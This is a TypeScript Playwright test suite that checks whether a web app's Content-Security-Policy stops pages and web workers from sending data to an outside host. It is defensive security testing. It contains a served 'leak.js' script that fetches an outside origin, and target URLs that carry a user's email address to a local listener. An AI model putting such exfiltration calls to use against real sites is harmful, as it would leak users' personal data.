import { readdirSync, readFileSync } from 'node:fs'
import type { Browser, BrowserContext, Page, Worker } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { serve } from '../../scripts/serve.mjs'
import { bootstrap } from '../../src/contract/seal.ts'
import { listen, type Outside } from './outside.ts'
import { dist, launch, rest, until, usable } from './support.ts'
import { linkWays } from './ways-out-links.ts'
import { importWays, pageWays, type Target } from './ways-out-page.ts'
import { workerWays } from './ways-out-worker.ts'

/** The page as it is, without the program in it; and the same without the seal: what would happen otherwise. */
const pages = { empty: '', unsealed: '' }
function strip(): void {
  const page = readFileSync(new URL('index.html', dist), 'utf8')
  pages.empty = page.replace(/<script type="module".*?<\/script>/s, '')
  pages.unsealed = pages.empty.replace(policyTag, '').replace(/<script[^>]*guard\.js.*?<\/script>/, '')
}
const policyTag = /<meta\s+http-equiv="Content-Security-Policy"[^>]*>/
/** Large enough for a worker that does nothing but read. */
const orders = {
  name: 'orders.csv',
  mimeType: 'text/csv',
  buffer: Buffer.from(`Order,Date,Email,Total\n${'1,2024-05-01,chloe@example.com,12.50\n'.repeat(250_000)}`),
}

let browser: Browser
let outside: Outside
let server: Awaited<ReturnType<typeof serve>>

const html = (text: () => string) => (_: unknown, response: import('node:http').ServerResponse) =>
  response.writeHead(200, { 'content-type': 'text/html' }).end(text())
const script = (text: () => string) => (_: unknown, response: import('node:http').ServerResponse) =>
  response.writeHead(200, { 'content-type': 'text/javascript' }).end(text())
const away = (request: import('node:http').IncomingMessage, response: import('node:http').ServerResponse) =>
  response.writeHead(307, { location: outside.origin + request.url }).end()

/** Where the attempt of a name goes. */
function target(name: string): Target & { leak: string } {
  return {
    to: `${outside.origin}/${name}?who=chloe@example.com`,
    own: `${server.origin}/away?${name}`,
    udp: outside.udp,
    leak: `${server.origin}/leak.js?${name}`,
  }
}

beforeAll(async () => {
  browser = await launch()
  strip()
  outside = await listen()
  server = await serve({
    headers: false,
    extra: {
      '/empty': html(() => pages.empty),
      '/unsealed': html(() => pages.unsealed),
      '/away': away,
      '/idle.js': script(() => ''),
      '/leak.js': script(() => `fetch(${JSON.stringify(`${outside.origin}/leak`)})`),
    },
  })
})
afterAll(async () => {
  await browser.close()
  await server.close()
  await outside.close()
})

/** Runs one attempt where it is told to, for at most a second. Being refused is what it is for. */
async function attempt(evaluate: Page['evaluate'], name: string): Promise<void> {
  const source = importWays[name]?.(target(name))
  const way = pageWays[name] ?? linkWays[name] ?? workerWays[name]
  const tried = source ? evaluate(source) : way && evaluate(way, target(name))
  await Promise.race([tried?.catch(() => {}), rest(1_000)])
}

/** Tries every way out of a page, each in a page of its own. Answers how many. */
async function tryPage(context: BrowserContext, path: string): Promise<number> {
  const names = [pageWays, linkWays, importWays].flatMap(Object.keys)
  const one = async (name: string) => {
    const tab = await context.newPage()
    await tab.goto(server.origin + path)
    await attempt(tab.evaluate.bind(tab), name)
    await rest(250)
    await Promise.race([tab.close(), rest(2_000)])
  }
  for (let i = 0; i < names.length; i += 4) await Promise.all(names.slice(i, i + 4).map(one))
  await rest(1_000)
  return names.length
}

/** Tries every way out of a worker. Answers how many. */
async function tryWorker(worker: Worker): Promise<number> {
  const names = [workerWays, importWays].flatMap(Object.keys)
  await Promise.all(names.map((name) => attempt(worker.evaluate.bind(worker), name)))
  await rest(1_000)
  return names.length
}

test('without the seal the attempts arrive, so the listener would hear them', async () => {
  const context = await browser.newContext()
  await tryPage(context, '/unsealed')
  const fromPage = new Set(outside.heard.splice(0))
  const tab = await context.newPage()
  await tab.goto(`${server.origin}/unsealed`)
  const started = tab.waitForEvent('worker')
  await tab.evaluate(() => void new Worker('/idle.js'))
  await tryWorker(await started)
  const fromWorker = new Set(outside.heard.splice(0))
  await context.close()
  expect(fromPage.size).toBeGreaterThanOrEqual(50)
  expect(fromWorker.size).toBeGreaterThanOrEqual(12)
})

test('nothing arrives from the sealed page', async () => {
  outside.heard.length = 0
  const context = await browser.newContext()
  const tried = await tryPage(context, '/empty')
  await context.close()
  expect(outside.heard).toEqual([])
  expect(tried).toBeGreaterThanOrEqual(59)
})

test('nothing arrives from any worker of the page, those of the engine and of the reader included', async () => {
  outside.heard.length = 0
  const context = await browser.newContext()
  const tab = await context.newPage()
  await tab.goto(server.url)
  await usable(tab)
  await tab.locator('input[type=file]').first().setInputFiles(orders)
  const workers = await until(() => (tab.workers().length >= 4 ? tab.workers() : null), 60_000)
  for (const worker of workers) await tryWorker(worker)
  await context.close()
  expect(outside.heard).toEqual([])
})

/** Starts the canary as the page does, on a page that has no program of its own. */
async function canaryOn(path: string): Promise<unknown> {
  const context = await browser.newContext()
  const tab = await context.newPage()
  await tab.goto(server.origin + path)
  const file = readdirSync(new URL('assets/', dist)).find((name) => name.startsWith('canary.worker'))
  const source = bootstrap('module', `${server.url}assets/${file}`, server.origin)
  const answer = await tab.evaluate(async (text) => {
    type Factory = { createPolicy(n: string, r: object): { createScriptURL(u: string): string } }
    const { trustedTypes } = self as unknown as { trustedTypes: Factory }
    const policy = trustedTypes.createPolicy('app', { createScriptURL: (u: string) => u })
    const address = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
    const worker = new Worker(policy.createScriptURL(address))
    return new Promise((resolve) => {
      worker.onmessage = ({ data }) => data !== 'ready' && resolve(data)
    })
  }, source)
  await context.close()
  return answer
}

test('the canary tells the policy from the network', async () => {
  expect(await canaryOn('/empty')).toEqual({ blocked: true, by: 'connect-src' })
  expect(await canaryOn('/unsealed')).toMatchObject({ blocked: false })
})

test('without the policy no worker is kept and the engine is never fetched', async () => {
  const weak = await serve({
    headers: false,
    alter: (path, text) => (path === '/' ? text.replace(policyTag, '') : null),
  })
  const context = await browser.newContext({ serviceWorkers: 'block' })
  const asked: string[] = []
  context.on('request', (request) => asked.push(request.url()))
  const tab = await context.newPage()
  await tab.goto(weak.url)
  await usable(tab)
  await until(() => asked.some((url) => url.includes('canary.worker')))
  await rest(3_000)
  expect(tab.workers()).toEqual([])
  expect(asked.filter((url) => /warehouse|mining|duckdb/.test(url))).toEqual([])
  await context.close()
  await weak.close()
})
